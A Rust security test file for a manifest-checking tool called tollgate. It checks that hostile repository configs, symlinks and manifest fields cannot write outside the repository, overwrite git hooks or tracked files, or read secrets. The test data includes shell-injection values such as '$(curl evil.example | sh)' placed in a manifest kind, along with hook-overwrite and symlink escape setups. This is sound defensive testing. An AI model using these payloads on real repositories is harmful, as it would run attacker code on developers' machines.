//! Nothing from the checked repository decides where tollgate writes or what it reads outside the
//! repository. Each test is an attack from a hostile commit (a `.tollgate.yaml`, a policy, a
//! symlink, a manifest field) on a real git repository, run with the real binary: it must be
//! refused with a clear error or finding, and nothing outside may be written, read or shown.

#![cfg(unix)]

use crate::common;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::{commit_all, findings, git, tempdir, tollgate, tollgate_stdin, write, Run};
use tempfile::TempDir;

/// A repository at `<tmp>/repo` and an empty directory beside it, `<tmp>/outside`, standing for
/// everything outside the repository (the user's home, the runner's secrets).
struct Site {
    _tmp: TempDir,
    root: PathBuf,
    outside: PathBuf,
}

fn site() -> Site {
    let tmp = tempdir();
    let root = tmp.path().join("repo");
    let outside = tmp.path().join("outside");
    fs::create_dir_all(&root).unwrap();
    fs::create_dir_all(&outside).unwrap();
    git(&root, &["init", "-q"]);
    Site { _tmp: tmp, root, outside }
}

const CONFIGMAP: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n  a: b\n";

/// The names of the entries of `dir`, sorted.
fn entries(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> =
        fs::read_dir(dir).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
    v.sort();
    v
}

#[track_caller]
fn refused(run: &Run, wants: &[&str]) {
    run.expect_code(2);
    for w in wants {
        assert!(run.stderr.contains(w), "stderr lacks {w:?}:\n{}", run.stderr);
    }
}

/// A real `git commit ARGS` in `dir`, hooks enabled, with `bin` first on PATH.
fn git_commit(dir: &Path, args: &[&str], bin: &Path) -> Output {
    let path = format!("{}:/usr/bin:/bin", bin.display());
    let mut cmd = Command::new("git");
    cmd.current_dir(dir)
        .args(["-c", "user.name=Tollgate Test", "-c", "user.email=test@example.com", "-c", "commit.gpgsign=false"])
        .arg("commit")
        .args(args);
    for var in ["GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_OBJECT_DIRECTORY", "GIT_COMMON_DIR"] {
        cmd.env_remove(var);
    }
    cmd.env("GIT_CONFIG_GLOBAL", "/dev/null").env("GIT_CONFIG_NOSYSTEM", "1").env("PATH", path);
    cmd.output().unwrap()
}

/// The attack of issue 14: a committed `.tollgate.yaml` sends the `github` report into the
/// pre-commit hook, and a manifest's kind holds a shell command substitution. The installed hook
/// runs `check --staged`, which used to rewrite the hook (keeping its exec bit) so that the next
/// `git commit` ran the payload. Now the config is refused (exit 2 naming its line), the commit
/// is blocked, the hook is unchanged and the payload never runs.
#[test]
fn config_output_cannot_rewrite_the_pre_commit_hook() {
    let s = site();
    let marker = s.outside.join("pwned");
    let bin = s.outside.join("bin");
    fs::create_dir_all(&bin).unwrap();
    symlink(env!("CARGO_BIN_EXE_tollgate"), bin.join("tollgate")).unwrap();
    tollgate(&s.root, &["hook", "install"]).expect_code(0);
    let hook = s.root.join(".git/hooks/pre-commit");
    let installed = fs::read_to_string(&hook).unwrap();

    write(&s.root, ".tollgate.yaml", "output: [\"github=.git/hooks/pre-commit\"]\n");
    write(
        &s.root,
        "x.yaml",
        format!("apiVersion: v1\nkind: \"$(touch {})\"\nmetadata: {{name: a}}\n", marker.display()),
    );
    git(&s.root, &["add", "-A"]);
    let first = git_commit(&s.root, &["-q", "-m", "one"], &bin);
    assert!(!first.status.success(), "the commit must be blocked: {first:?}");
    let stderr = String::from_utf8_lossy(&first.stderr);
    assert!(stderr.contains(".tollgate.yaml:1:10: `output`: .git/hooks/pre-commit"), "{stderr}");
    assert_eq!(fs::read_to_string(&hook).unwrap(), installed, "the hook was rewritten");
    // The next commit runs the hook again: the payload must still not run.
    let second = git_commit(&s.root, &["-q", "--allow-empty", "-m", "two"], &bin);
    assert!(!second.status.success());
    assert!(!marker.exists(), "the payload ran");
    assert_eq!(fs::read_to_string(&hook).unwrap(), installed);
    assert!(fs::metadata(&hook).unwrap().permissions().mode() & 0o111 != 0);

    // The same report on the command line is the user's choice: it goes where they say.
    let report = s.outside.join("github.txt");
    let arg = format!("github={}", report.display());
    tollgate(&s.root, &["check", "--staged", "--config", "/dev/null", "-o", &arg]).expect_code(0);
    assert!(fs::read_to_string(&report).unwrap().contains("$(touch"));
    assert!(!marker.exists());
}

/// `output:` paths from the repository's config stay inside the repository, in every mode; the
/// command line's `-o FORMAT=PATH` stays free.
#[test]
fn config_output_stays_inside_the_repository() {
    let s = site();
    write(&s.root, "cm.yaml", CONFIGMAP);
    let abs = s.outside.join("abs.json");
    write(&s.root, ".tollgate.yaml", format!("output:\n  - json=../outside/rel.json\n  - json={}\n", abs.display()));
    commit_all(&s.root, "config");
    for mode in [&["check"][..], &["check", "--rev", "HEAD"], &["check", "--staged"]] {
        let run = tollgate(&s.root, mode);
        refused(&run, &[".tollgate.yaml:2:5: `output`: ../outside/rel.json: `..` is not allowed"]);
    }
    write(&s.root, ".tollgate.yaml", format!("output:\n  - human\n  - json={}\n", abs.display()));
    refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:3:5: `output`:", "an absolute path is not allowed"]);
    assert!(entries(&s.outside).is_empty(), "{:?}", entries(&s.outside));

    // Config paths are relative to the repository root, wherever tollgate runs.
    write(&s.root, ".tollgate.yaml", "output: [json=reports/deep/r.json]\n");
    write(&s.root, "apps/cm.yaml", CONFIGMAP);
    tollgate(&s.root.join("apps"), &["check"]).expect_code(0);
    assert!(s.root.join("reports/deep/r.json").is_file());
    assert!(!s.root.join("apps/reports").exists());

    let free = s.outside.join("free/r.json");
    let arg = format!("json={}", free.display());
    tollgate(&s.root, &["check", "-o", &arg]).expect_code(0);
    assert!(free.is_file());
}

/// A config report path never goes through a symbolic link (a directory or the file itself,
/// dangling or not), and an existing report is replaced by a fresh file whose mode is not kept.
#[test]
fn config_output_never_goes_through_a_symlink() {
    let s = site();
    write(&s.root, "cm.yaml", CONFIGMAP);
    symlink(&s.outside, s.root.join("reports")).unwrap();
    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\n");
    refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:1:10", "reports is a symbolic link"]);
    fs::remove_file(s.root.join("reports")).unwrap();

    fs::create_dir(s.root.join("reports")).unwrap();
    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\nexclude: [\"reports/**\"]\n");
    let victim = s.outside.join("victim.json");
    symlink(&victim, s.root.join("reports/r.json")).unwrap();
    refused(&tollgate(&s.root, &["check"]), &["`output`: reports/r.json: not written: it is a symbolic link"]);
    assert!(!victim.exists(), "written through a dangling link");
    fs::write(&victim, "{\"mine\": true}\n").unwrap();
    refused(&tollgate(&s.root, &["check"]), &["it is a symbolic link"]);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "{\"mine\": true}\n");

    // A regular file (untracked: a previous report) is replaced by a new one: its exec bit does
    // not carry over.
    fs::remove_file(s.root.join("reports/r.json")).unwrap();
    write(&s.root, "reports/r.json", "#!/bin/sh\n");
    fs::set_permissions(s.root.join("reports/r.json"), fs::Permissions::from_mode(0o755)).unwrap();
    tollgate(&s.root, &["check"]).expect_code(0);
    let report = s.root.join("reports/r.json");
    assert!(fs::read_to_string(&report).unwrap().contains("\"version\": 1"));
    assert_eq!(fs::metadata(&report).unwrap().permissions().mode() & 0o111, 0);
}

/// Nor into a git directory: `.git` (any case), the hooks directory of `core.hooksPath` (even
/// before it exists), or a git directory kept inside the work tree under another name.
#[test]
fn config_output_never_lands_in_a_git_directory() {
    let s = site();
    write(&s.root, "cm.yaml", CONFIGMAP);
    for (path, why) in [
        (".git/r.json", "a path inside `.git` is not allowed"),
        ("sub/.GIT/r.json", "a path inside `.git` is not allowed"),
    ] {
        write(&s.root, ".tollgate.yaml", format!("output: [json={path}]\n"));
        refused(&tollgate(&s.root, &["check"]), &[why]);
    }
    git(&s.root, &["config", "core.hooksPath", ".githooks"]);
    write(&s.root, ".tollgate.yaml", "output: [github=.githooks/pre-commit]\n");
    refused(&tollgate(&s.root, &["check"]), &["not written: it is inside the git directory"]);
    assert!(!s.root.join(".githooks").exists());

    // `git init --separate-git-dir` inside the work tree: `.git` is a file naming `store`.
    let t = tempdir();
    let root = t.path().join("wt");
    fs::create_dir(&root).unwrap();
    git(&root, &["init", "-q", "--separate-git-dir", root.join("store").to_str().unwrap()]);
    write(&root, "cm.yaml", CONFIGMAP);
    write(&root, ".tollgate.yaml", "output: [github=store/hooks/pre-commit]\n");
    refused(&tollgate(&root, &["check"]), &["not written: it is inside the git directory"]);
    assert!(!root.join("store/hooks/pre-commit").exists());
}

/// A document's kind or apiVersion never steers a schema lookup out of a `--schema-location`
/// directory or template (`kind: ../../outside/x/leak` used to read `outside/x/leak-v1.json`).
#[test]
fn document_fields_cannot_steer_schema_lookups() {
    let s = site();
    fs::create_dir_all(s.outside.join("x")).unwrap();
    let leak = r#"{"type": "object", "required": ["read-from-outside"]}"#;
    fs::write(s.outside.join("x/leak-v1.json"), leak).unwrap();
    fs::write(s.outside.join("x/leak.json"), leak).unwrap();
    fs::create_dir_all(s.root.join("schemas")).unwrap();
    write(&s.root, "m.yaml", "apiVersion: v1\nkind: \"../../outside/x/leak\"\nmetadata: {name: a}\n");
    for location in ["schemas", "schemas/{{.ResourceKind}}.json", "schemas/x{{.ResourceKind}}.json"] {
        let run = tollgate(&s.root, &["check", "--builtin", "none", "-o", "json", "--schema-location", location]);
        let report = run.json();
        assert!(!run.stdout.contains("read-from-outside"), "{location}: {}", run.stdout);
        let rules: Vec<&str> = findings(&report).iter().map(|f| f["rule"].as_str().unwrap()).collect();
        assert_eq!(rules, ["schema/missing"], "{location}");
    }
    // The group and version too.
    write(&s.root, "m.yaml", "apiVersion: \"../outside/x/v1\"\nkind: Leak\nmetadata: {name: a}\n");
    let run = tollgate(&s.root, &["check", "--builtin", "none", "-o", "json", "--schema-location", "schemas"]);
    assert!(!run.stdout.contains("read-from-outside"), "{}", run.stdout);
}

/// `file-schemas` schema paths stay inside the repository: no `..`, no absolute path, no symlink
/// leading out (and what is outside is not shown).
#[test]
fn file_schemas_stay_inside_the_repository() {
    let s = site();
    fs::write(s.outside.join("s.json"), r#"{"type": "object", "required": ["secret-schema-key"]}"#).unwrap();
    write(&s.root, "w.yaml", "on: push\n");
    write(&s.root, ".tollgate.yaml", "file-schemas:\n  - files: w.yaml\n    schema: ../outside/s.json\n");
    refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:3:5: `file-schemas`: ../outside/s.json: `..`"]);
    symlink("../outside/s.json", s.root.join("s.json")).unwrap();
    write(&s.root, ".tollgate.yaml", "file-schemas:\n  - files: w.yaml\n    schema: s.json\n");
    let run = tollgate(&s.root, &["check", "-o", "json"]);
    refused(&run, &[".tollgate.yaml:2:5: file-schemas: schema s.json: not read:", "outside the repository"]);
    assert!(!run.stdout.contains("secret-schema-key") && !run.stderr.contains("secret-schema-key"));
}

/// A symlinked `.tollgate.yaml` is refused in every mode (it used to be followed out of the
/// repository and its keys echoed in the error), and so is it for `tollgate parse`.
#[test]
fn symlinked_config_is_refused() {
    let s = site();
    fs::write(s.outside.join("cfg.yaml"), "secret-token-123: x\n").unwrap();
    symlink("../outside/cfg.yaml", s.root.join(".tollgate.yaml")).unwrap();
    write(&s.root, "cm.yaml", CONFIGMAP);
    for args in [&["check"][..], &["parse", "cm.yaml"]] {
        let run = tollgate(&s.root, args);
        refused(&run, &[".tollgate.yaml is a symbolic link"]);
        assert!(!run.stderr.contains("secret-token-123"), "{}", run.stderr);
    }
    // `--staged` reads the config from the index, where the link is a link.
    git(&s.root, &["add", "-A"]);
    let run = tollgate(&s.root, &["check", "--staged"]);
    refused(&run, &[".tollgate.yaml in the index is a symbolic link"]);
    assert!(!run.stderr.contains("secret-token-123"), "{}", run.stderr);
    commit_all(&s.root, "linked config");
    let run = tollgate(&s.root, &["check", "--rev", "HEAD"]);
    refused(&run, &[".tollgate.yaml in HEAD is a symbolic link"]);
    assert!(!run.stderr.contains("secret-token-123"));
}

/// The policy that reads `path` with `parse_config_file` and reports what it got.
fn reader_policy(path: &str) -> String {
    format!(
        "package main\nimport rego.v1\ndeny contains msg if {{\n  input.kind == \"ConfigMap\"\n  x := parse_config_file({path:?})\n  msg := sprintf(\"got %v\", [x])\n}}\n"
    )
}

/// `parse_config_file` reads only inside the repository (not its git directory) or a `-p`
/// directory, never through a symlink leaving them: a refused path is a runtime error finding
/// naming the path, and nothing of the file reaches the report.
#[test]
fn parse_config_file_reads_only_inside_the_repository() {
    let s = site();
    fs::write(s.outside.join("secret.yaml"), "token: hunter2-outside\n").unwrap();
    write(&s.root, "cm.yaml", CONFIGMAP);
    write(&s.root, "data/ok.yaml", "token: inside-value\n");
    symlink("../outside/secret.yaml", s.root.join("link.yaml")).unwrap();
    git(&s.root, &["config", "remote.origin.url", "https://user:hunter2-git@example.com/r"]);
    let secret_path = s.outside.join("secret.yaml");
    let cases = [
        (secret_path.to_str().unwrap(), "outside the repository and the policy directories"),
        ("../outside/secret.yaml", "outside the repository and the policy directories"),
        ("link.yaml", "(through a symbolic link)"),
        ("data/../../outside/secret.yaml", "outside the repository"),
        (".git/config", "inside the git directory"),
    ];
    for (path, why) in cases {
        write(&s.root, "policy/read.rego", reader_policy(path));
        let run = tollgate(&s.root, &["check", "-p", "policy", "-o", "json"]);
        run.expect_code(1);
        assert!(!run.stdout.contains("hunter2"), "{path}: {}", run.stdout);
        let report = run.json();
        let f = &findings(&report)[0];
        assert_eq!(f["rule"], "policy/runtime-error", "{path}: {report:#}");
        let msg = f["message"].as_str().unwrap();
        assert!(msg.contains(&format!("{path}: not read")) && msg.contains(why), "{path}: {msg}");
    }
    write(&s.root, "policy/read.rego", reader_policy("data/ok.yaml"));
    git(&s.root, &["add", "data/ok.yaml"]);
    let run = tollgate(&s.root, &["check", "-p", "policy", "-o", "json"]);
    assert!(run.stdout.contains("got {\\\"token\\\": \\\"inside-value\\\"}"), "{}", run.stdout);

    // A policy library outside the repository, named on the command line, reads its own files.
    let lib = s.outside.join("lib");
    fs::create_dir(&lib).unwrap();
    fs::write(lib.join("allow.yaml"), "token: library-value\n").unwrap();
    fs::write(lib.join("read.rego"), reader_policy(lib.join("allow.yaml").to_str().unwrap())).unwrap();
    let run = tollgate(&s.root, &["check", "-p", lib.to_str().unwrap(), "-o", "json"]);
    assert!(run.stdout.contains("library-value"), "{}", run.stdout);
}

/// `policy:`, `data:` and `schema-location:` from the repository's config stay inside it (no
/// `..`, no absolute path, no symlink out); the same directories on the command line are free.
#[test]
fn config_gate_paths_stay_inside_the_repository() {
    let s = site();
    write(&s.root, "cm.yaml", CONFIGMAP);
    let pol = s.outside.join("pol");
    fs::create_dir(&pol).unwrap();
    fs::write(pol.join("p.rego"), "package main\nimport rego.v1\ndeny contains \"outside policy ran\" if true\n")
        .unwrap();
    fs::write(s.outside.join("d.yaml"), "secret: 1\n").unwrap();
    fs::create_dir(s.outside.join("schemas")).unwrap();

    for (config, why) in [
        ("policy: ../outside/pol\n", ".tollgate.yaml:1:1: `policy`: ../outside/pol: `..` is not allowed"),
        (&format!("policy: [{}]\n", pol.display()), ".tollgate.yaml:1:10: `policy`:"),
        ("data: [../outside/d.yaml]\n", ".tollgate.yaml:1:8: `data`: ../outside/d.yaml: `..`"),
        ("schema-location: [../outside/schemas]\n", ".tollgate.yaml:1:19: `schema-location`:"),
        ("policy: .git/hooks\n", "a path inside `.git` is not allowed"),
    ] {
        write(&s.root, ".tollgate.yaml", config);
        refused(&tollgate(&s.root, &["check"]), &[why]);
    }
    symlink("../outside/pol", s.root.join("pol")).unwrap();
    symlink("../outside/d.yaml", s.root.join("d.yaml")).unwrap();
    symlink("../outside/schemas", s.root.join("schemas")).unwrap();
    for (config, why) in [
        ("policy: pol\n", ".tollgate.yaml:1:1: pol: not read: it resolves to"),
        ("data: [d.yaml]\n", ".tollgate.yaml:1:8: d.yaml: not read: it resolves to"),
        ("schema-location: [schemas]\n", ".tollgate.yaml:1:19: --schema-location schemas: it resolves to"),
    ] {
        write(&s.root, ".tollgate.yaml", config);
        let run = tollgate(&s.root, &["check"]);
        refused(&run, &[why, "outside the repository (through a symbolic link)"]);
        assert!(!run.stdout.contains("outside policy ran"));
    }
    // On the command line the same paths are the user's.
    fs::remove_file(s.root.join(".tollgate.yaml")).unwrap();
    let run = tollgate(&s.root, &["check", "-p", "pol", "-d", "d.yaml", "--schema-location", "schemas"]);
    run.expect_code(1);
    assert!(run.stdout.contains("outside policy ran"), "{}", run.stdout);
}

/// A schema file inside a schema location in the repository that is a symlink leading out is not
/// read (a `schema/unusable` warning says so), on the command line too.
#[test]
fn schema_files_in_the_repository_are_not_read_through_links_leading_out() {
    let s = site();
    fs::write(s.outside.join("w.json"), r#"{"type": "object", "required": ["outside-only-field"]}"#).unwrap();
    fs::create_dir(s.root.join("schemas")).unwrap();
    symlink("../../outside/w.json", s.root.join("schemas/widget-example-v1.json")).unwrap();
    write(&s.root, "w.yaml", "apiVersion: example.com/v1\nkind: Widget\nmetadata: {name: w}\n");
    let run = tollgate(&s.root, &["check", "--builtin", "none", "-o", "json", "--schema-location", "schemas"]);
    let report = run.json();
    let f = findings(&report).iter().find(|f| f["rule"] == "schema/unusable").expect("a schema/unusable finding");
    assert!(f["message"].as_str().unwrap().contains("not read: it resolves to"), "{f:#}");
    assert!(!run.stdout.contains("outside-only-field"));
}

const WIDGET_SCHEMA: &str = r#"{"type": "object", "required": ["spec"],
  "properties": {"spec": {"type": "object", "required": ["size"], "properties": {"size": {"type": "integer"}}}}}"#;

const GADGET_CRD: &str = "apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: gadgets.example.com}
spec:
  group: example.com
  names: {kind: Gadget, plural: gadgets}
  scope: Namespaced
  versions:
    - name: v1
      served: true
      storage: true
      schema:
        openAPIV3Schema:
          type: object
          properties:
            spec:
              type: object
              required: [color]
              properties:
                color: {type: string}
";

const GADGET_CRD_OPEN: &str = "apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: gadgets.example.com}
spec:
  group: example.com
  names: {kind: Gadget, plural: gadgets}
  scope: Namespaced
  versions:
    - name: v1
      served: true
      storage: true
      schema:
        openAPIV3Schema:
          type: object
          x-kubernetes-preserve-unknown-fields: true
";

/// PR mode reads the schema locations inside the repository (schemas and the CRDs in them) from
/// the merge-base: a pull request that replaces its own schemas with `{}` used to pass.
#[test]
fn pr_mode_reads_schema_locations_from_the_merge_base() {
    let s = site();
    write(&s.root, "schemas/widget-example-v1.json", WIDGET_SCHEMA);
    write(&s.root, "schemas/crds/gadget.yaml", GADGET_CRD);
    write(&s.root, ".tollgate.yaml", "schema-location: [schemas]\n");
    commit_all(&s.root, "base");
    git(&s.root, &["checkout", "-q", "-b", "pr"]);
    write(&s.root, "schemas/widget-example-v1.json", "{}");
    write(&s.root, "schemas/crds/gadget.yaml", GADGET_CRD_OPEN);
    write(&s.root, "apps/w.yaml", "apiVersion: example.com/v1\nkind: Widget\nmetadata: {name: w}\nspec: {}\n");
    write(&s.root, "apps/g.yaml", "apiVersion: example.com/v1\nkind: Gadget\nmetadata: {name: g}\nspec: {}\n");
    commit_all(&s.root, "weaken the schemas");

    let run = tollgate(&s.root, &["check", "--base", "main", "--builtin", "none", "-o", "json"]);
    run.expect_code(1);
    let report = run.json();
    let got: Vec<(String, String)> = findings(&report)
        .iter()
        .map(|f| (f["rule"].as_str().unwrap().to_string(), f["file"].as_str().unwrap().to_string()))
        .collect();
    for want in [
        ("schema/missing-required", "apps/g.yaml"),
        ("schema/missing-required", "apps/w.yaml"),
        ("gate/policy-changed", "schemas/crds/gadget.yaml"),
        ("gate/policy-changed", "schemas/widget-example-v1.json"),
    ] {
        assert!(got.contains(&(want.0.to_string(), want.1.to_string())), "{want:?} not in {got:?}");
    }
    // The same on the command line, and `--policy-from head` reads head's schemas.
    let args =
        ["check", "--base", "main", "--builtin", "none", "--config", "/dev/null", "--schema-location", "schemas"];
    tollgate(&s.root, &args).expect_code(1);
    tollgate(&s.root, &["check", "--base", "main", "--builtin", "none", "--policy-from", "head"]).expect_code(0);
}

/// `tollgate init` never writes through a symbolic link: a `policy` directory that is a link
/// out of the repository, or a dangling link where a file would go, and nothing is written.
#[test]
fn init_never_writes_through_a_symlink() {
    let s = site();
    symlink("../outside", s.root.join("policy")).unwrap();
    refused(&tollgate(&s.root, &["init"]), &["policy is a symbolic link", "nothing was written"]);
    assert!(entries(&s.outside).is_empty());
    assert!(!s.root.join(".tollgate.yaml").exists());
    fs::remove_file(s.root.join("policy")).unwrap();

    symlink("../outside/planted.yaml", s.root.join(".tollgate.yaml")).unwrap();
    refused(&tollgate(&s.root, &["init"]), &["not overwriting .tollgate.yaml"]);
    assert!(entries(&s.outside).is_empty());
    fs::remove_file(s.root.join(".tollgate.yaml")).unwrap();
    tollgate(&s.root, &["init"]).expect_code(0);
    assert!(s.root.join("policy/example.rego").is_file());
}

/// `hook install` with `core.hooksPath` naming a committed directory: a hooks directory that is a
/// link out of the repository is refused, and a planted `pre-commit` link is never written
/// through (not even with --force, which replaces the link itself).
#[test]
fn hook_install_never_writes_through_a_committed_symlink() {
    let s = site();
    git(&s.root, &["config", "core.hooksPath", ".githooks"]);
    symlink("../outside", s.root.join(".githooks")).unwrap();
    refused(&tollgate(&s.root, &["hook", "install"]), &[".githooks is a symbolic link"]);
    assert!(entries(&s.outside).is_empty());
    fs::remove_file(s.root.join(".githooks")).unwrap();

    fs::create_dir(s.root.join(".githooks")).unwrap();
    let victim = s.outside.join("victim");
    fs::write(&victim, "mine\n").unwrap();
    symlink("../../outside/victim", s.root.join(".githooks/pre-commit")).unwrap();
    refused(&tollgate(&s.root, &["hook", "install"]), &["was not written by tollgate"]);
    tollgate(&s.root, &["hook", "install", "--force"]).expect_code(0);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "mine\n");
    let hook = s.root.join(".githooks/pre-commit");
    let meta = fs::symlink_metadata(&hook).unwrap();
    assert!(meta.is_file() && meta.permissions().mode() & 0o111 != 0);
    assert!(fs::read_to_string(&hook).unwrap().contains("tollgate check --staged"));
}

/// stdin has the same size cap as files (`--max-file-size`, or `max-file-size:`), for `check -`
/// and `parse -`; over it is the usual `parse/file-too-large` finding with the exact size.
#[test]
fn stdin_is_capped() {
    let s = site();
    let big = format!("{CONFIGMAP}# {}\n", "x".repeat(300));
    let run = tollgate_stdin(&s.root, &["check", "-", "--max-file-size", "100", "-o", "json"], Some(big.as_bytes()));
    run.expect_code(1);
    let report = run.json();
    let f = &findings(&report)[0];
    assert_eq!(f["rule"], "parse/file-too-large");
    assert!(f["message"].as_str().unwrap().contains(&format!("{} bytes", big.len())), "{f:#}");
    write(&s.root, ".tollgate.yaml", "max-file-size: 100\n");
    tollgate_stdin(&s.root, &["check", "-"], Some(big.as_bytes())).expect_code(1);
    tollgate_stdin(&s.root, &["check", "-"], Some(CONFIGMAP.as_bytes())).expect_code(0);

    let run = tollgate_stdin(&s.root, &["parse", "-", "--max-file-size", "100"], Some(big.as_bytes()));
    run.expect_code(1);
    assert!(run.stderr.contains("parse/file-too-large"), "{}", run.stderr);
    let run = tollgate_stdin(&s.root, &["parse", "-"], Some(big.as_bytes()));
    run.expect_code(0);
}

/// `jobs:` in the repository's config cannot ask for 100,000 threads: it is held to the cores,
/// and `--jobs` to a hard maximum, each with a warning.
#[test]
fn jobs_are_clamped() {
    let s = site();
    write(&s.root, "cm.yaml", CONFIGMAP);
    write(&s.root, ".tollgate.yaml", "jobs: 100000\n");
    let run = tollgate(&s.root, &["check"]);
    run.expect_code(0);
    assert!(run.stderr.contains("warning: `jobs: 100000` in the config file is more than the"), "{}", run.stderr);
    let run = tollgate(&s.root, &["check", "-j", "100000"]);
    run.expect_code(0);
    assert!(run.stderr.contains("warning: --jobs 100000 is more than the maximum of 256; using 256"), "{}", run.stderr);
    write(&s.root, ".tollgate.yaml", "jobs: 1\n");
    assert!(!tollgate(&s.root, &["check"]).stderr.contains("warning"));
}

const LFS_POINTER: &str = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";

/// An LFS pointer where a manifest should be blocks (the gate cannot see the content) unless
/// `.tollgate.yaml` says `lfs-pointers: allow`; in PR mode the merge-base's config decides.
#[test]
fn lfs_pointers_block_unless_allowed() {
    let s = site();
    write(&s.root, "cm.yaml", CONFIGMAP);
    commit_all(&s.root, "base");
    git(&s.root, &["checkout", "-q", "-b", "pr"]);
    write(&s.root, "big.yaml", LFS_POINTER);
    write(&s.root, ".tollgate.yaml", "lfs-pointers: allow\n");
    commit_all(&s.root, "an LFS file, and a config that lets it pass");

    let run = tollgate(&s.root, &["check", "--base", "main", "-o", "json"]);
    run.expect_code(1);
    let report = run.json();
    let f = findings(&report).iter().find(|f| f["rule"] == "source/lfs-pointer").unwrap();
    assert_eq!((f["severity"].as_str(), f["file"].as_str()), (Some("error"), Some("big.yaml")));

    let run = tollgate(&s.root, &["check", "--rev", "HEAD", "-o", "json"]);
    run.expect_code(0);
    let report = run.json();
    let f = findings(&report).iter().find(|f| f["rule"] == "source/lfs-pointer").unwrap();
    assert_eq!(f["severity"], "note");
    write(&s.root, ".tollgate.yaml", "lfs-pointers: block\n");
    tollgate(&s.root, &["check"]).expect_code(1);
    tollgate(&s.root, &["parse", "big.yaml"]).expect_code(1);
    write(&s.root, ".tollgate.yaml", "lfs-pointers: maybe\n");
    refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:1:1: `lfs-pointers` must be `allow` or `block`"]);
}

/// `output:` in the repository's config never replaces a file git tracks (in the index, `HEAD`
/// or the commit checked, under any letter case): `json=package.json` used to overwrite the
/// committed `package.json` (its `scripts` then run by `npm test`) with report text carrying the
/// manifest's `$(...)`, and in `--rev` and `--staged` mode to clobber the user's local edits.
/// Every mode refuses it, exit 2 naming the line, the file unchanged; `-o` stays free.
#[test]
fn config_output_never_replaces_a_tracked_file() {
    let s = site();
    let package = "{\"scripts\": {\"test\": \"make test\"}}\n";
    write(&s.root, "package.json", package);
    write(&s.root, "docs/notes.md", "# notes\n");
    write(&s.root, "x.yaml", "apiVersion: v1\nkind: \"$(curl evil.example | sh)\"\nmetadata: {name: a}\n");
    write(&s.root, ".tollgate.yaml", "output: [\"json=package.json\"]\n");
    commit_all(&s.root, "base");
    // The user's local edit to a tracked file is not the report's to overwrite either.
    write(&s.root, "docs/notes.md", "# notes\nunsaved local edit\n");
    for mode in [&["check"][..], &["check", "--rev", "HEAD"], &["check", "--staged"]] {
        let run = tollgate(&s.root, mode);
        refused(&run, &[".tollgate.yaml:1:10: `output`: package.json: not written: git tracks it (in the index)"]);
        assert_eq!(fs::read_to_string(s.root.join("package.json")).unwrap(), package, "{mode:?}");
    }
    for (config, path, where_) in [
        ("output: [\"json=PACKAGE.JSON\"]\n", "PACKAGE.JSON", "in the index"),
        ("output: [markdown=docs/notes.md]\n", "docs/notes.md", "in the index"),
        ("output: [markdown=Docs/Notes.MD]\n", "Docs/Notes.MD", "in the index"),
    ] {
        write(&s.root, ".tollgate.yaml", config);
        let run = tollgate(&s.root, &["check"]);
        refused(&run, &[&format!("`output`: {path}: not written: git tracks it ({where_})")]);
    }
    assert_eq!(fs::read_to_string(s.root.join("docs/notes.md")).unwrap(), "# notes\nunsaved local edit\n");
    // Only staged (not yet committed), or removed from the index but still in HEAD: tracked too.
    write(&s.root, "staged.json", "{}\n");
    git(&s.root, &["add", "staged.json"]);
    write(&s.root, ".tollgate.yaml", "output: [json=staged.json]\n");
    refused(&tollgate(&s.root, &["check", "x.yaml"]), &["staged.json: not written: git tracks it (in the index)"]);
    git(&s.root, &["rm", "-q", "--cached", "package.json"]);
    write(&s.root, ".tollgate.yaml", "output: [json=package.json]\n");
    refused(&tollgate(&s.root, &["check", "x.yaml"]), &["package.json: not written: git tracks it (in HEAD)"]);
    assert_eq!(fs::read_to_string(s.root.join("package.json")).unwrap(), package);

    // An untracked report path is written (the previous report replaced), and the command line
    // may name any file.
    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\nexclude: [\"reports/**\"]\n");
    tollgate(&s.root, &["check", "x.yaml"]).expect_code(0);
    tollgate(&s.root, &["check", "x.yaml"]).expect_code(0);
    assert!(fs::read_to_string(s.root.join("reports/r.json")).unwrap().contains("\"version\": 1"));
    tollgate(&s.root, &["check", "x.yaml", "--config", "/dev/null", "-o", "json=package.json"]).expect_code(0);
    assert!(fs::read_to_string(s.root.join("package.json")).unwrap().contains("\"version\": 1"));
}

/// A report file named in the repository's config has a name that fits its format, so it cannot
/// stand in for a `Makefile`, an `.envrc`, a script or a tool's config that runs commands, even
/// where git tracks nothing (a new file, `--rev` of a commit without it).
#[test]
fn config_output_name_fits_its_format() {
    let s = site();
    write(&s.root, "x.yaml", "apiVersion: v1\nkind: \"$(touch pwned)\"\nmetadata: {name: a}\n");
    write(&s.root, ".tollgate.yaml", "exclude: [\"out/**\"]\nschemas: false\n");
    commit_all(&s.root, "base");
    for (entry, want) in [
        ("github=Makefile", "a `github` report from the config file must be named *.txt or *.log"),
        ("human=.envrc", "a `human` report from the config file must be named *.txt or *.log"),
        ("github=ci/deploy.sh", "must be named *.txt or *.log"),
        ("json=.txt", "must be named *.json"),
        ("json=out/.json", "must be named *.json"),
        ("markdown=out/r.json", "a `markdown` report from the config file must be named *.md or *.markdown"),
        ("sarif=out/r.json", "a `sarif` report from the config file must be named *.sarif or *.sarif.json"),
        ("junit=out/r.html", "a `junit` report from the config file must be named *.xml"),
    ] {
        write(&s.root, ".tollgate.yaml", format!("exclude: [\"out/**\"]\noutput: [\"{entry}\"]\nschemas: false\n"));
